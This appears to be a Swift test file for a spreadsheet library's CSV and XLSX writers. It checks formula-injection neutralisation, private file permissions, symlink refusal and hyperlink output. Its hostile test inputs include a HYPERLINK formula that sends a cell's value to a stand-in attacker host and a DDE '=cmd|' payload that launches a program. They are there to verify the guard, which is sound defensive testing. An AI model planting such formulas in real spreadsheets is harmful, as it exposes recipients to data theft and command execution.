import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import Testing
@testable import Spreadsheet

@Suite struct WriterTests {
    static let hostile: [String] = ["=HYPERLINK(\"http://evil.example/?\"&A2;\"klikk\")", "+47 412 34 567", "-2+3",
                                    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Kari \"K\" Nordmann; Tromsø\r\nny linje"]

    private func mode(_ url: URL) -> mode_t {
        var info = stat()
        #expect(stat(url.path, &info) == 0)
        return info.st_mode & 0o777
    }

    @Test func formulaGuard() {
        #expect(FormulaGuard.neutralise("=1+1") == "'=1+1")
        #expect(FormulaGuard.neutralise("+47 412 34 567") == "'+47 412 34 567")
        #expect(FormulaGuard.neutralise("-") == "'-")
        #expect(FormulaGuard.neutralise("@x") == "'@x")
        #expect(FormulaGuard.neutralise("\tx") == "'\tx")
        #expect(FormulaGuard.neutralise("\rx") == "'\rx")
        #expect(FormulaGuard.neutralise("Ola = 1") == "Ola = 1")
        #expect(FormulaGuard.neutralise("") == "")
        #expect(FormulaGuard.isDangerous("=A1"))
        #expect(!FormulaGuard.isDangerous("41234567"))
    }

    @Test func csvRoundTripWithNeutralisedHostileCells() throws {
        let folder = try TempFolder()
        let url = folder.path("ringeliste.csv")
        let rows: [[Cell]] = WriterTests.hostile.enumerated().map { index, text in
            [.number(Double(index)), .text(text), .number(-5), .empty, .date(serial: 43_466, uses1904: false)]
        }
        try CSVWriter().write(headers: ["Nr", "Navn", "Saldo", "Tom", "Innmeldt"], rows: rows, to: url)
        let bytes = try Array(Data(contentsOf: url))
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        #expect(String(decoding: bytes, as: UTF8.self).contains("Nr;Navn;Saldo;Tom;Innmeldt\r\n"))
        #expect(mode(url) == 0o600)
        let source = try TableReader.open(url: url)
        #expect(source.headers == ["Nr", "Navn", "Saldo", "Tom", "Innmeldt"])
        #expect(source.format == .csv(delimiter: ";", encoding: .utf8))
        let read = try allTexts(source)
        #expect(read.map { $0[1] } == WriterTests.hostile.map(FormulaGuard.neutralise))
        #expect(read[1][1] == "'+47 412 34 567")
        #expect(read.allSatisfy { $0[2] == "-5" && $0[3] == "" && $0[4] == "2019-01-01" })
    }

    @Test func xlsxRoundTripKeepsPhonesAsTextAndNeutralisesTheRest() throws {
        let folder = try TempFolder()
        let url = folder.path("ringeliste.xlsx")
        var rows: [[Cell]] = WriterTests.hostile.map { [.text($0), .text("+47 412 34 567"), .number(41_234_567)] }
        rows.append([.text("Åse Sárá Čđŋšŧž & <b>"), .text("=cmd|'/c calc'!A0"), .bool(true),
                     .date(serial: 42_004, uses1904: true)])
        try XLSXWriter(sheetName: "Ringeliste: Tromsø", phoneColumns: [1]).write(
            headers: ["Navn", "Mobil", "Tall", "Dato"], rows: rows, to: url)
        #expect(mode(url) == 0o600)
        let source = try TableReader.open(url: url)
        #expect(source.headers == ["Navn", "Mobil", "Tall", "Dato"])
        #expect(source.format == .xlsx(sheet: "Ringeliste Tromsø"))
        let read = try allRows(source)
        #expect(read.count == rows.count)
        #expect(read.map(\.number) == Array(2...(rows.count + 1)))
        for (index, text) in WriterTests.hostile.enumerated() {
            #expect(read[index][0] == .text(FormulaGuard.neutralise(text)))
            #expect(read[index][1] == .text("+47 412 34 567"))
            #expect(read[index][2] == .number(41_234_567))
        }
        let last = try #require(read.last)
        #expect(last[0] == .text("Åse Sárá Čđŋšŧž & <b>"))
        #expect(last[1] == .text("'=cmd|'/c calc'!A0"))
        #expect(last[2] == .bool(true))
        #expect(last[3] == .date(serial: 43_466, uses1904: false))
    }

    @Test func xlsxPartsAreWellFormedAndTextIsInline() throws {
        let folder = try TempFolder()
        let url = folder.path("ark.xlsx")
        try XLSXWriter().write(headers: ["Mobil"], rows: [[.text("41234567")]], to: url)
        let sheet = try String(decoding: XLSXPartReader.part(url, "xl/worksheets/sheet1.xml"), as: UTF8.self)
        #expect(sheet.contains("<c r=\"A1\" s=\"1\" t=\"inlineStr\"><is><t xml:space=\"preserve\">Mobil</t></is></c>"))
        #expect(sheet.contains("<c r=\"A2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">41234567</t></is></c>"))
        for part in ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                     "xl/styles.xml", "xl/worksheets/sheet1.xml"] {
            let parser = XMLParser(data: try XLSXPartReader.part(url, part))
            #expect(parser.parse(), "\(part) is not well-formed")
        }
    }

    @Test func hyperlinksAreWellFormedExternalRelationshipsAndTheCellsReadBackAsText() throws {
        let folder = try TempFolder()
        let url = folder.path("lenker.xlsx")
        let links = [XLSXHyperlink(row: 1, column: 1, target: "tel:+4741234567"),
                     XLSXHyperlink(row: 0, column: 0, target: "https://example.no/?a=1&b=<2>")]
        try XLSXWriter(phoneColumns: [1], printLayout: XLSXPrintLayout(columnWidths: [10, 10])).write(
            headers: ["Navn", "Mobil"], rows: [[.text("Kari"), .text("412 34 567")], [.text("Ola"), .text("+47 412 34 567")]],
            links: links, to: url)
        let sheet = try String(decoding: XLSXPartReader.part(url, "xl/worksheets/sheet1.xml"), as: UTF8.self)
        #expect(sheet.contains("</sheetData><hyperlinks><hyperlink ref=\"B3\" r:id=\"rId1\"/><hyperlink ref=\"A2\" r:id=\"rId2\"/></hyperlinks><printOptions"))
        let rels = try String(decoding: XLSXPartReader.part(url, "xl/worksheets/_rels/sheet1.xml.rels"), as: UTF8.self)
        #expect(rels.contains("<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"tel:+4741234567\" TargetMode=\"External\"/>"))
        #expect(rels.contains("Target=\"https://example.no/?a=1&amp;b=&lt;2&gt;\""))
        for part in ["xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"] {
            #expect(XMLParser(data: try XLSXPartReader.part(url, part)).parse(), "\(part) is not well-formed")
        }
        let source = try TableReader.open(url: url, sheet: nil)
        var phones: [String] = []
        try source.forEach { phones.append($0.cells[1].text) }
        #expect(phones == ["412 34 567", "+47 412 34 567"])
    }

    @Test func withoutLinksThereIsNoSheetRelationshipsPart() throws {
        let folder = try TempFolder()
        let url = folder.path("ark.xlsx")
        try XLSXWriter().write(headers: ["Mobil"], rows: [[.text("41234567")]], to: url)
        #expect(throws: (any Error).self) { try XLSXPartReader.part(url, "xl/worksheets/_rels/sheet1.xml.rels") }
        #expect(!(try String(decoding: XLSXPartReader.part(url, "xl/worksheets/sheet1.xml"), as: UTF8.self)).contains("hyperlink"))
    }

    @Test func secureFileRefusesToOverwriteUnlessAsked() throws {
        let folder = try TempFolder()
        let url = try folder.file("eksport.csv", utf8: "gammel")
        let error = spreadsheetError { try CSVWriter().write(headers: ["a"], rows: [], to: url) }
        #expect(error?.kind == .fileExists)
        #expect(try String(contentsOf: url, encoding: .utf8) == "gammel")
        try CSVWriter().write(headers: ["a"], rows: [[.text("b")]], to: url, existing: .replace)
        #expect(try Array(Data(contentsOf: url)) == [0xEF, 0xBB, 0xBF] + Array("a\r\nb\r\n".utf8))
        #expect(mode(url) == 0o600)
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.url.path) == ["eksport.csv"])
    }

    @Test func secureFileRefusesSymbolicLinks() throws {
        let folder = try TempFolder()
        let target = try folder.file("mål.txt", utf8: "urørt")
        let link = folder.path("lenke.csv")
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: target)
        for existing in [SecureFile.Existing.replace, .refuse] {
            let error = spreadsheetError { try SecureFile.write(Array("x".utf8), to: link, existing: existing) }
            #expect(error?.kind == .symbolicLink)
        }
        #expect(try String(contentsOf: target, encoding: .utf8) == "urørt")
    }

    @Test func secureFileIsPrivateEvenWithPermissiveUmask() throws {
        let folder = try TempFolder()
        let url = folder.path("data.bin")
        let old = umask(0)
        defer { umask(old) }
        try SecureFile.write([1, 2, 3], to: url, existing: .refuse)
        #expect(mode(url) == 0o600)
        #expect(try Array(Data(contentsOf: url)) == [1, 2, 3])
    }

    @Test func failedWriteLeavesNothingBehind() throws {
        struct Stop: Error {}
        let folder = try TempFolder()
        let url = folder.path("halv.csv")
        #expect(throws: Stop.self) {
            try SecureFile.write(to: url, existing: .refuse) { out in
                try out.write("halvferdig")
                throw Stop()
            }
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.url.path).isEmpty)
    }
}

